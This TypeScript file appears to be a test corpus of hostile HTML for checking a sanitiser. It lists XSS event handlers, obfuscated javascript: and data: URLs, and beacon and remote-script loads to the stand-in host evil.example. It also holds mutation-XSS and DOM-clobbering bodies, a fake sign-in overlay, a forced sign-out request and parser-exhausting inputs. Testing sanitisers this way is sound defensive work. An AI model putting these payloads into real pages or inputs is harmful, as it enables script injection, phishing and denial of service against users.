import { HostileBody } from './hostileHtml';

const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbeforeinput', 'onpointerrawupdate'];
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)', '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)', '\u0001javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://evil.example/1',
  'file:///etc/passwd', 'view-source:https://evil.example', 'livescript:x', 'mocha:x', 'javascript&colon;alert(1)', 'feed:javascript:alert(1)',
  'intent://evil.example#Intent;scheme=https;end', 'ms-word:ofe|u|https://evil.example/a.docx', 'filesystem:https://evil.example/x', 'about:blank'
];
const addressed = [
  '<a href="§">x</a>', '<img src="§" alt="x">', '<iframe src="§"></iframe>', '<form action="§"><input type=submit></form>', '<button formaction="§">x</button>',
  '<object data="§"></object>', '<embed src="§">', '<video src="§" poster="§"></video>', '<audio><source src="§"></audio>', '<svg><a xlink:href="§"><text>x</text></a></svg>',
  '<math href="§">x</math>', '<base href="§">', '<link rel=stylesheet href="§">', '<table background="§"><td background="§">x</table>', '<blockquote cite="§">x</blockquote>',
  '<area href="§">', '<img srcset="§ 1x">', '<a ping="§" href="https://example.org">x</a>', '<meta http-equiv=refresh content="0;url=§">', '<input type=image src="§">'
];
const requests = [
  '<img src="https://evil.example/t.gif">', '<img src="//evil.example/t.gif" alt="a">', '<img srcset="https://evil.example/t.gif 1x">', '<p style="background:url(https://evil.example/t.gif)">x</p>',
  '<style>@import "https://evil.example/x.css";</style>', '<link rel=prefetch href="https://evil.example/x">', '<picture><source srcset="https://evil.example/t.gif"><img src="https://evil.example/u.gif"></picture>',
  '<video poster="https://evil.example/t.gif"></video>', '<iframe src="https://evil.example/"></iframe>', '<input type=image src="https://evil.example/t.gif">', '<body background="https://evil.example/t.gif">x',
  '<svg><image href="https://evil.example/t.gif"/></svg>', '<svg><use href="https://evil.example/t.svg#x"/></svg>', '<img src="/_layouts/15/SignOut.aspx">', '<img src="/_layouts/15/signout.aspx/x.png" alt="a">',
  '<link rel=dns-prefetch href="//evil.example">', '<table background="//evil.example/t.gif"><tr><td>x</table>', '<portal src="https://evil.example">', '<track src="https://evil.example/t.vtt">', '<audio src="https://evil.example/a.mp3" autoplay></audio>'
];
/** Parsed once it is harmless; parsed again, it is something else. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<table><caption><svg><title><table><caption></caption></table></title></svg><img src=x onerror=alert(1)>', '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<a href="`"><img title="`onerror=alert(1)//">', '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>-->',
  '<?xml <img src=x onerror=alert(1)> ?>', '<![if gte mso 9]><script>alert(1)</script><![endif]>', '<!--[if gte mso 9]><xml><img src=x onerror=alert(1)></xml><![endif]-->'
];
const clobbering = [
  '<form id=attributes><input name=attributes></form>', '<form><input name=parentNode><input name=childNodes></form>', '<img name=body><img name=getElementById>', '<a id=_spPageContextInfo href="https://evil.example">x</a>',
  '<form id=x><output id=y>1</form>', '<iframe name=self srcdoc="<a id=top></a>"></iframe>', '<a id=spModuleLoader><a id=spModuleLoader name=url href="https://evil.example/x.js">x</a>', '<div id=__proto__>x</div>', '<p id="user-content-user-content-x">x</p>',
  '<img class="newTab" src="x" style="position:fixed;inset:0">', '<div class="ms-Dialog" style="position:fixed;top:0;left:0;width:100%;height:100%">Sign in again</div>', '<div style="position:absolute;z-index:99999">over all</div>'
];
const scripts = [
  '<script>alert(1)</script>', '<script/x>alert(1)</script>', '<script src=//evil.example/x.js></script>', '<scr<script>ipt>alert(1)</script>', '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>', '<svg><set attributeName=onmouseover to=alert(1)>', '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<div><template><img src=x onerror=alert(1)></template></div>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>', '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<isindex type=image src=1 onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<details open ontoggle=alert(1)>x</details>', '<x-a onclick=alert(1)>x</x-a>', '<p is="x-a" onclick=alert(1)>x</p>', '<input autofocus onfocus=alert(1)>', '<style>*{animation:x}@keyframes x{}</style><b onanimationstart=alert(1)>x</b>',
  '<p style="width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml#a);behavior:url(#x)">x</p>', '<dialog open>x</dialog><p popover id=x>y</p><button popovertarget=x>z</button>', '<a href="https://example.org" target=_top onclick=alert(1) download>x</a>', '<meta charset="utf-7">+ADw-script+AD4-alert(1)'
];
const large = [
  '<b>'.repeat(2000) + 'deep', '<blockquote>'.repeat(2000) + 'deep', '<table><tr><td>'.repeat(200) + 'deep', '<p>' + 'x'.repeat(100_000), '<'.repeat(20_000), '<a href="' + 'x'.repeat(50_000), '<p ' + 'a=b '.repeat(20_000) + '>x', '<td colspan=1000 rowspan=65534>x'.repeat(50)
];

function group(name: string, bodies: readonly string[]): HostileBody[] {
  return bodies.map((html, index) => ({ name: `${name} ${index + 1}`, html }));
}

/** One body or more for each technique that is known to have broken a sanitiser or a page. */
export const techniques: readonly HostileBody[] = [
  ...group('handler', handlers.flatMap((handler) => ['img src=x', 'svg', 'p tabindex=1', 'details open'].map((tag) => `<${tag} ${handler}=alert(1)>x`))),
  ...group('address', schemes.flatMap((scheme) => addressed.map((place) => place.replace(/§/g, scheme)))),
  ...group('request', requests),
  ...group('mutating', mutating),
  ...group('clobbering', clobbering),
  ...group('script', scripts),
  ...group('large', large)
];
